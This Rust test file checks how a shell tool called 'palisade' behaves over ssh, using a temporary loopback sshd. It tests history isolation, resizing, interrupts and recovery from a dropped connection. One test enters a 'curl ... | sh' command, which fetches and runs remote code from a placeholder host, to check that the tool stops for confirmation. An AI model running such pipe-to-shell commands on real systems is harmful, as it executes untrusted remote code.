// SPDX-License-Identifier: Apache-2.0 OR MIT
//! Tests `palisade shell` over ssh, as the user that runs the tests. The test has its own server on loopback, with its own keys
//! and settings.

use super::context::{remembered, wait_for_context};
use super::screen::{PALISADE, Setting, has, is_in_front};
use palisade_acceptance::patience::{Patience, pause};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::Duration;

/// A server, and the client's settings for it.
struct Server {
    place: tempfile::TempDir,
    child: Child,
}

impl Drop for Server {
    fn drop(&mut self) {
        let _ended = self.child.kill();
        let _reaped = self.child.wait();
    }
}

fn sshd() -> Option<PathBuf> {
    let found =
        ["/usr/sbin/sshd", "/usr/bin/sshd"].map(PathBuf::from).into_iter().find(|path| path.is_file());
    if found.is_none() || !has("ssh") || !has("ssh-keygen") {
        eprintln!("this machine lacks an ssh server: nothing is tested with it");
        return None;
    }
    found
}

fn key(place: &Path, name: &str) {
    let made = Command::new("ssh-keygen")
        .args(["-q", "-t", "ed25519", "-N", "", "-f"])
        .arg(place.join(name))
        .status()
        .unwrap();
    assert!(made.success());
}

/// An ordinary user's server needs nothing. Root's wants a directory below `/run`, which it gets in mounts of its own.
fn start(sshd: &Path) -> Command {
    if !rustix::process::geteuid().is_root() {
        return Command::new(sshd);
    }
    let mut command = Command::new("unshare");
    command.args([
        "--mount",
        "sh",
        "-c",
        "mount -t tmpfs none /run && mkdir -m 755 /run/sshd && exec \"$0\" \"$@\"",
    ]);
    command.arg(sshd);
    command
}

impl Server {
    /// `command` is what a client gets.
    fn start(command: &str) -> Option<Self> {
        let sshd = sshd()?;
        let place = tempfile::tempdir().unwrap();
        let at = |name: &str| place.path().join(name).display().to_string();
        key(place.path(), "host");
        key(place.path(), "me");
        std::fs::copy(place.path().join("me.pub"), place.path().join("authorized")).unwrap();
        let login =
            format!("#!/bin/sh\nexport PS1='far> ' HOME='{}' HISTFILE=\n{command}\n", place.path().display());
        std::fs::write(place.path().join("login"), login).unwrap();
        // Another process takes the port between the two steps only by chance; then try another port.
        for _attempt in 0..5 {
            let port = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
            std::fs::write(
                place.path().join("sshd_config"),
                format!(
                    "ListenAddress 127.0.0.1:{port}\nHostKey {}\nPidFile none\nAuthorizedKeysFile {}\nUsePAM no\n\
                     StrictModes no\nPasswordAuthentication no\nKbdInteractiveAuthentication no\nPrintMotd no\n\
                     PermitRootLogin yes\nForceCommand /bin/sh {}\n",
                    at("host"),
                    at("authorized"),
                    at("login"),
                ),
            )
            .unwrap();
            std::fs::write(
                place.path().join("ssh_config"),
                format!(
                    "Host far\n HostName 127.0.0.1\n Port {port}\n IdentityFile {}\n IdentitiesOnly yes\n\
                     UserKnownHostsFile {}\n StrictHostKeyChecking accept-new\n LogLevel ERROR\n RequestTTY force\n",
                    at("me"),
                    at("known"),
                ),
            )
            .unwrap();
            let mut child = start(&sshd)
                .args(["-D", "-e", "-f"])
                .arg(place.path().join("sshd_config"))
                .stdin(Stdio::null())
                .stderr(std::fs::File::create(place.path().join("log")).unwrap())
                .spawn()
                .unwrap();
            let mut patience = Patience::new(Duration::from_secs(20));
            while !patience.is_spent() && child.try_wait().unwrap().is_none() {
                if TcpStream::connect(("127.0.0.1", port)).is_ok() {
                    return Some(Self { place, child });
                }
                std::thread::sleep(Duration::from_millis(20));
            }
            let _ended = child.kill();
            let _reaped = child.wait();
        }
        panic!("no ssh server: {}", std::fs::read_to_string(place.path().join("log")).unwrap_or_default());
    }

    fn ssh(&self) -> String {
        format!("ssh -F '{}' far", self.place.path().join("ssh_config").display())
    }
}

const ROW: &str = "schema = 1\n[status]\nrow = true\nshow = [\"context\", \"exit\"]\n";

#[test]
fn what_is_typed_on_another_machine_is_neither_suggested_nor_remembered_here() {
    let Some(server) = Server::start("exec bash --norc -i") else { return };
    let mut screen = Setting::of("bash", "")
        .file(".config/palisade/shell.toml", ROW)
        .file(".bash_history", "echo the quick brown fox\n")
        .ready();
    pause(Duration::from_millis(1200));
    screen.line(&server.ssh());
    screen.wait_for("far>");
    wait_for_context(&mut screen, "ssh far");
    screen.line("echo fa''r-line; stty size");
    screen.wait_for_line("far-line");
    screen.wait_for_line("23 80");
    screen.slowly("echo the");
    screen.wait_for("far> echo the");
    pause(Duration::from_millis(200));
    assert!(!screen.text().contains("quick"), "{}", screen.text());
    screen.keys("\x15");
    screen.line("(exit 3); exit");
    screen.wait_until("the shell itself", |screen| {
        screen.rows(0, 80).last().is_some_and(|row| row.trim() == "exit 3")
    });
    let remembered = remembered(&mut screen);
    assert!(remembered.contains("ssh -F"), "{remembered}");
    assert!(!remembered.contains("far-line") && !remembered.contains("-line"), "{remembered}");
}

#[test]
fn the_window_of_a_shell_on_another_machine_changes_with_this_one() {
    let Some(server) = Server::start("exec bash --norc -i") else { return };
    let mut screen = Setting::of("bash", "").ready();
    screen.line(&server.ssh());
    screen.wait_for("far>");
    screen.resize(100, 30);
    screen.wait_until("the size", |_| true);
    let mut patience = Patience::new(Duration::from_secs(20));
    while !screen.text().contains("30 100") {
        assert!(!patience.is_spent(), "{}", screen.text());
        screen.line("stty size");
        pause(Duration::from_millis(200));
    }
    // Control-C is the other side's.
    screen.line("echo sta''rt; sleep 1000");
    screen.wait_for("start");
    let far = server.child.id();
    screen.wait_until("program on the other side", |_| is_in_front(far, "sleep"));
    screen.press("\x03", "far>");
    screen.line("echo af''ter");
    screen.wait_for("after");
}

#[test]
fn it_runs_on_another_machine_too() {
    let Some(server) = Server::start(&format!("exec '{PALISADE}' shell --shell /bin/bash")) else { return };
    let home = server.place.path();
    std::fs::write(
        home.join(".bashrc"),
        format!("PS1='far> '; HISTFILE=\neval \"$('{PALISADE}' shell init bash)\"\n"),
    )
    .unwrap();
    std::fs::write(home.join(".bash_history"), "echo the quick brown fox\n").unwrap();
    let mut screen = Setting::of("bash", "").ready();
    screen.line(&server.ssh());
    screen.wait_for("far>");
    screen.line(&format!("'{PALISADE}' shell status"));
    screen.wait_for("the proxy runs in this terminal");
    // What the other side suggests is from there.
    let mut patience = Patience::new(Duration::from_secs(20));
    while !screen.text().contains("echo the quick brown fox") {
        assert!(!patience.is_spent(), "{}", screen.text());
        screen.keys("\x15");
        screen.slowly("echo the");
        pause(Duration::from_millis(300));
    }
    screen.keys("\x05\r");
    screen.wait_for_line("the quick brown fox");
    screen.line("curl -s https://a.example/b | sh");
    screen.wait_for("Enter again");
    screen.keys("\x03");
    screen.wait_for_last("far>");
    screen.line("exit 5");
    screen.wait_until("the end of it", |screen| screen.contents().trim_end().ends_with("\n$"));
    screen.line("echo \"code $?\"");
    screen.wait_for_line("code 5");
    let here = remembered(&mut screen);
    assert!(!here.contains("shell status") && !here.contains("curl"), "{here}");
    assert!(home.join(".local/state/palisade/history.sqlite").is_file());
}

#[test]
fn a_connection_that_breaks_leaves_a_usable_terminal() {
    let Some(mut server) = Server::start("exec bash --norc -i") else { return };
    let mut screen = Setting::of("bash", "").file(".config/palisade/shell.toml", ROW).ready();
    screen.line(&server.ssh());
    screen.wait_for("far>");
    screen.line("printf '\\e[?1049h\\e[?1000h'; echo al''ternate");
    screen.wait_until("the other screen", |screen| {
        screen.alternate_screen() && screen.contents().contains("alternate")
    });
    screen.line("kill -KILL $PPID");
    screen.wait_until("the shell itself", |screen| {
        screen.rows(0, 80).last().is_some_and(|row| row.trim() == "exit 255")
    });
    screen.line("printf '\\e[?1049l\\e[?1000l'; echo us''able; stty -a | grep -ow icanon");
    screen.wait_for_line("usable");
    screen.wait_for_line("icanon");
    server.child.kill().unwrap();
}
